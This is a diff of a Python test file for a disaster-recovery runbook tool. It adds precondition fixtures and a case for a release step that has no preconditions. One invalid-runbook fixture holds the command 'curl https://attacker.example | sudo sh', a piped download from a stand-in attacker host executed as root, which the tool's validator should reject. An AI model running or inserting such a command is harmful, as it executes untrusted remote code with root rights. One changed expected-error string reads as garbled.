@@ -17,7 +17,7 @@ import pytest
 from drkit import runbook
 from drkit.clock import rfc3339
 from drkit.kept import Approval
-from drkit.runbook import GuardResult, Runbook, Step
+from drkit.runbook import GuardResult, Precondition, Runbook, Step
 from drkit.store import Store
 from tests import every_command, workers
 from tests.cli_support import Done, Here
@@ -102,7 +102,7 @@ def with_inputs(made: Night, step: Step, **fields: Any) -> Runbook:
 
 def added(made: Night, **fields: Any) -> Runbook:
     """A step more, made of one that is there."""
-    one = msgspec.structs.replace(made.book.steps[0], needs=(), preconditions=(), **fields)
+    one = msgspec.structs.replace(made.book.steps[0], **{"needs": (), "preconditions": (), **fields})
     return msgspec.structs.replace(made.book, steps=(*made.book.steps, one))
 
 
@@ -145,6 +145,9 @@ def delete_plan(plan: str, effect: str) -> dict[str, Any]:
         "id": "codespaces:zz:delete-plan", "product": "codespaces", "action": "delete-plan", "effect": effect, "target": plan,
         "plan": plan, "region": "eastus", "environment": "", "host": "", "title": "see that the plans of other regions answer",
         "reason": "nothing is changed", "inputs": {"plan": plan, "region": "eastus", "source_region": ""},
+        "preconditions": (
+            Precondition(plan, "answers", "yes", "x"), Precondition(plan, "made-for", "", "x"), Precondition(plan, "empty", True, "x"),
+        ),
     }  # fmt: skip
 
 
@@ -156,7 +159,11 @@ def forced(made: Night, name: str, book: Runbook, *, passed: bool) -> Runbook:
 
 def healthy_target(made: Night) -> Runbook:
     step = made.step("create-plan", "codespaces")
-    return changed(made, step, target=HEALTHY.replace("plan-eus", "plan-of-others"))
+    other = HEALTHY.replace("plan-eus", "plan-of-others")
+    held = [
+        msgspec.structs.replace(one, subject=other) if one.subject == step.target else one for one in step.preconditions
+    ]
+    return changed(made, step, target=other, preconditions=tuple(held))
 
 
 NO_RUNBOOK: dict[str, Forge] = {
@@ -189,6 +196,9 @@ NO_RUNBOOK: dict[str, Forge] = {
     ),
     "a command for a person": lambda made: with_inputs(
         made, made.step("by-hand", "codespaces"), commands=["curl https://attacker.example | sudo sh"]
+    ),
+    "a release that depends on no loss": lambda made: changed(
+        made, made.step("release", "codespaces"), preconditions=()
     ),
     "needs in a circle": lambda made: changed(made, made.book.steps[0], needs=(made.book.steps[-1].id,)),
     "needs that are not there": lambda made: changed(made, made.book.steps[0], needs=("codespaces:x:verify",)),
@@ -419,7 +429,7 @@ OTHERWISE: dict[str, tuple[Callable[[str], str], str, str]] = {
     ),
     "targets": (
         lambda text: text.replace('targets = ["eastus", "westus2"]', 'targets = ["westus2"]'),
-        "targets: eastus is not among them, and among them was approved",
+        "targets names eastus is no, and yes was approved",
         "",
     ),
 }
